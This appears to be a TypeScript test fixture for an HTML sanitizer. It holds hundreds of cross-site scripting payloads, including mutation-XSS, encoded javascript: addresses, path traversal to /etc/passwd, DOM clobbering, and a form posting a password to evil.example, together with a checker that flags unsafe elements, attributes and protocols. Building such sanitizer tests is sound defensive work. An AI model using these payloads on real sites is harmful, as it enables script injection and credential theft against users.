/** For tests only: what an attacker writes, by place, and what may never be found in a page. */
import type { Nodes } from "hast";
import { raw } from "hast-util-raw";

/** Elements with a program, a form, a style, a frame or rules of parsing of their own, and wrong ones. */
const ELEMENTS =
  "script style iframe object embed applet form input button select option textarea base meta link svg math template noscript frameset frame video audio source track img image isindex keygen marquee bgsound layer xml xss dialog portal slot body html head title plaintext xmp listing noembed noframes animate set map area canvas param fencedframe foreignObject a p div details table td".split(
    " ",
  );

const ATTRIBUTES = [
  "onload=alert(1) onerror='alert(1)' onclick=\"alert(1)\"",
  "autofocus tabindex=1 onfocus=alert(1) ontoggle=alert(1) onpointerenter=alert(1)",
  'src="javascript:alert(1)" href="javascript:alert(1)" data="javascript:alert(1)" action="javascript:alert(1)"',
  'style="position:fixed;background:url(javascript:alert(1))" background="javascript:alert(1)" class="p-menu evil"',
  'srcdoc="<script>alert(1)</script>" srcset="javascript:alert(1) 1x" formaction="javascript:alert(1)" ping="//evil"',
  'id="p-menu" name="location" http-equiv="refresh" content="0;url=javascript:alert(1)" rel="import" is="evil-x"',
];

/** Each element with each group of attributes. */
export const TAG_PAYLOADS: string[] = ELEMENTS.flatMap((element) =>
  ATTRIBUTES.map((attributes) => `<${element} ${attributes}>x</${element}>`),
);

/** Malformed and nested HTML, foreign content, and HTML that changes as it is parsed again. */
export const SHAPE_PAYLOADS: string[] = [
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<<script>script>alert(1)<</script>/script>",
  "<script\n>alert(1)</script\n>",
  "<script/x>alert(1)</script/x>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<script>alert(1)",
  "<script src=//evil.example/x.js",
  "<script>/*<!--*/alert(1)//--></script>",
  "<!--><script>alert(1)</script>-->",
  "<!--!><script>alert(1)</script>-->",
  "<!-- --!><script>alert(1)</script>-->",
  "<!---><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "<!DOCTYPE html [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
  "<img src=x onerror=alert(1)//",
  "<img src=x\fonerror=alert(1)>",
  "<img/src=x/onerror=alert(1)>",
  '<img """><script>alert(1)</script>">',
  "<img src=`x` onerror=`alert(1)`>",
  "<img src='x'onerror='alert(1)'>",
  "<img src=x onerror\u0000=alert(1)>",
  "<img alt='\"><script>alert(1)</script>' src=media/a.jpg>",
  "<a href='javascript:alert(1)'>x",
  "<a href=`javascript:alert(1)`>x</a>",
  "<a\nhref\n=\njavascript:alert(1)>x</a>",
  "<a href=javascript:alert(1) href=https://a.example>x</a>",
  "<a title='</a><script>alert(1)</script>'>x</a>",
  "<a href='https://a.example' onclick=alert(1) target=_blank ping=//evil.example>x</a>",
  "<p><a href=x><a href=javascript:alert(1)>x</a></a></p>",
  "<svg><script>alert(1)</script></svg>",
  "<svg/onload=alert(1)>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<svg><title><style><a id='</style><img src=x onerror=alert(1)>'></title></svg>",
  "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
  "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
  "<svg><use href='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4#x'/></svg>",
  "<svg><set attributeName=onmouseover to=alert(1)></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
  "<math><mi><mglyph><svg><mtext><textarea><path id='</textarea><img onerror=alert(1) src=1>'></mtext></svg></mglyph></mi></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<noembed><p title='</noembed><img src=x onerror=alert(1)>'></noembed>",
  "<noframes><p title='</noframes><img src=x onerror=alert(1)>'></noframes>",
  "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
  "<style><p title='</style><img src=x onerror=alert(1)>'></style>",
  "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
  "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
  "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
  "<select><style></select><img src=x onerror=alert(1)></style>",
  "<select><template><style></select><img src=x onerror=alert(1)></template>",
  "<template><script>alert(1)</script></template>",
  "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
  "<plaintext><script>alert(1)</script>",
  "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
  "<table><td background=javascript:alert(1)><script>alert(1)</script>",
  "<table><script>alert(1)</script><tr><td>x",
  "<table><a href=javascript:alert(1)>x</a></table>",
  "<b><p><script>alert(1)</b></script></p>",
  "<div><div><div><script>alert(1)</div></script></div></div>",
  "</div></p></body></html><script>alert(1)</script>",
  "<body><body onload=alert(1)><html onclick=alert(1)>",
  "<base href='javascript:/a/+alert(1)//'>",
  "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
  "<link rel=stylesheet href=data:text/css,*{x:expression(alert(1))}>",
  "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
  "<embed src='javascript:alert(1)' type=text/html>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<video poster=javascript:alert(1) controls></video>",
  "<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details>",
  "<input onfocus=alert(1) autofocus><input type=checkbox onclick=alert(1) name=attributes>",
  "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
  "<form><input name=innerHTML><input name=attributes><input name=parentNode></form>",
  "<form action=https://evil.example method=post><input type=password name=p><button>OK</button></form>",
  "<a id=x><a id=x name=url href='clobbered:1'>x</a>",
  "<div id='location'><img name='body' src=media/a.jpg><div id='p-search'></div>",
  "<div style='width:expression(alert(1))'>x</div>",
  "<style>@import 'javascript:alert(1)';body{display:none}</style>",
  "<q cite='javascript:alert(1)'>x</q><del cite='data:text/html,x'>y</del><ins cite='vbscript:x'>z</ins>",
  "<blockquote cite='java\nscript:alert(1)'>x</blockquote>",
  "<picture><source srcset='javascript:alert(1)'><img srcset='//evil.example/x 2x' src='//evil.example/y'></picture>",
  "<img usemap=#m src=media/a.jpg><map name=m><area href=javascript:alert(1)></map>",
  "<div contenteditable autofocus onfocus=alert(1)>x</div>",
  "<div role=alert tabindex=5 data-x=1 aria-hidden=true class='sr-only p-x evil'>x</div>",
  "<a class='language-x language-\"><script>' href=#>x</a>",
  "<h1 onclick=alert(1)>x</h1><h2 id='p-x' style=x>y</h2>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<isindex action=javascript:alert(1) type=image>",
  "<portal src=https://evil.example onload=alert(1)></portal>",
  "<x onclick=alert(1)>x</x><y:z onclick=alert(1)>y</y:z>",
  "<p slot=x part=y exportparts=z is=w nonce=v>x</p>",
  "<\u0000script>alert(1)</script>",
  "<ſcript>alert(1)</ſcript>",
  "＜script＞alert(1)＜/script＞",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&amp;lt;script&amp;gt;alert(1)",
  "<b title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</b>",
  "<b title='&#34; onclick=&#34;alert(1)'>x</b>",
];

/** Text that tries to leave the attribute or the element it stands in, or to be taken for a slot. */
export const TEXT_PAYLOADS: string[] = [
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  "</p></a></figcaption></summary></h2><script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  "` onmouseover=`alert(1)",
  "x onmouseover=alert(1)",
  "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#34;&#62;&#60;img src=x onerror=alert(1)&#62;",
  "<img src=x onerror=alert(1)>",
  "--><script>alert(1)</script><!--",
  "]]><script>alert(1)</script>",
  "$" + "{alert(1)} {{constructor.constructor('alert(1)')()}} <%= 1 %>",
  '\\"><script>alert(1)</script>',
  '\u0000"><script>alert(1)</script>',
  "\u202e\u2028\u2029\ufeff<script>",
  "\ue0000\ue001",
  "\ue00000\ue001\ue0001\ue001",
  "&#xE000;0&#xE001;",
  "&#xe000;0&#xe001;",
  "&#57344;0&#57345;",
  "&#0057344;0&#0057345;",
  "&#x0000E0000&#x0000E001",
  "&#xE000 0&#xE001 ",
  "&#573440&#57345;",
  "&amp;#xE000;0&amp;#xE001;",
  "%EE%80%800%EE%80%81",
];

/** Addresses of schemes that run or hide something, with the disguises that browsers see through. */
export const ADDRESS_PAYLOADS: string[] = [
  ..."javascript:alert(1) JaVaScRiPt:alert(1) javascript://x%0aalert(1) javascript&colon;alert(1)".split(" "),
  ..."java&#x09;script:alert(1) java&Tab;script:alert(1) java&NewLine;script:alert(1) &#106;avascript:alert(1)".split(
    " ",
  ),
  ..."&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1) &#0000106avascript:alert(1)".split(" "),
  ..."javascript%3Aalert(1) %6aavascript:alert(1) javascript\\:alert(1) \\javascript:alert(1)".split(" "),
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\rscript:alert(1)",
  "java\u0000script:alert(1)",
  "\u0001javascript:alert(1)",
  "\u001bjavascript:alert(1)",
  " javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "\u200bjavascript:alert(1)",
  "\u2028javascript:alert(1)",
  "\ufeffjavascript:alert(1)",
  "java\u00adscript:alert(1)",
  "java script:alert(1)",
  "javascript :alert(1)",
  "ｊavascript:alert(1)",
  "javaſcript:alert(1)",
  "javascript：alert(1)",
  ..."vbscript:msgbox(1) livescript:alert(1) mocha:alert(1) data:text/html,<script>alert(1)</script>".split(" "),
  ..."data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== data:image/svg+xml,<svg/onload=alert(1)> data:,x".split(
    " ",
  ),
  ..."blob:https://a.example/x file:///etc/passwd filesystem:https://a.example/x about:blank view-source:https://a".split(
    " ",
  ),
  ..."ms-settings:x intent://x#Intent;scheme=https;end jar:https://a!/b feed:javascript:alert(1) ws://a ftp://a".split(
    " ",
  ),
  ..."//evil.example/x.js ///evil.example/x \\\\evil.example\\x /\\evil.example https:evil.example http:\\\\evil".split(
    " ",
  ),
  ..."../../../../etc/passwd media/../../x media/%2e%2e/%2e%2e/x /media/..%2f..%2fx %00 %0ajavascript:x".split(" "),
  ...'https://[bad http://a:99999 https://a.example/"onmouseover=alert(1) ?javascript:alert(1) #javascript:alert(1)'.split(
    " ",
  ),
  '"onmouseover="alert(1)',
  "x' onerror='alert(1)",
  'media/a.jpg" onerror="alert(1)',
  "media/<script>alert(1)</script>.jpg",
];

const SAFE_ELEMENTS = new Set(
  "a abbr address aside b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i input ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr u ul var wbr".split(
    " ",
  ),
);
const SAFE_ATTRIBUTES = new Set(
  "id lang dir title className href hrefLang rel download cite dateTime open role tabIndex ariaLabel ariaDescribedBy dataFootnoteRef dataFootnoteBackref dataFootnotes span colSpan rowSpan headers scope value start reversed type checked disabled".split(
    " ",
  ),
);
const SAFE_PROTOCOLS = new Set(["https:", "http:", "mailto:", "tel:"]);

/** What a browser would find in the HTML that must not be there. */
export function unsafeParts(html: string): string[] {
  const found: string[] = [];
  const ids = new Set<string>();
  const look = (node: Nodes): void => {
    if (node.type === "comment" || node.type === "doctype" || node.type === "raw") found.push(node.type);
    if (node.type === "element") {
      if (!SAFE_ELEMENTS.has(node.tagName)) found.push(`<${node.tagName}>`);
      for (const [name, value] of Object.entries(node.properties)) {
        const text = Array.isArray(value) ? value.join(" ") : String(value);
        if (!SAFE_ATTRIBUTES.has(name)) found.push(`${name}="${text}"`);
        if ((name === "href" || name === "cite") && !isSafeAddress(text)) found.push(`${name}="${text}"`);
        if (name !== "href" && /[\ue000\ue001]/.test(text)) found.push(`a mark in ${name}`);
        if (name === "id" && (ids.has(text) || text.startsWith("p-"))) found.push(`id="${text}"`);
        if (name === "id") ids.add(text);
      }
    }
    if ("children" in node) node.children.forEach(look);
  };
  look(raw({ type: "root", children: [{ type: "raw", value: html }] }));
  return found;
}

function isSafeAddress(address: string): boolean {
  // A mark alone stands for the address of an image, which the builder writes.
  if (/^\ue000\d+\ue001$/.test(address)) return true;
  if (/[\ue000\ue001\\]/.test(address) || address.startsWith("//")) return false;
  const base = "https://base.example/";
  // An address that cannot be parsed leads nowhere.
  return !URL.canParse(address, base) || SAFE_PROTOCOLS.has(new URL(address, base).protocol);
}
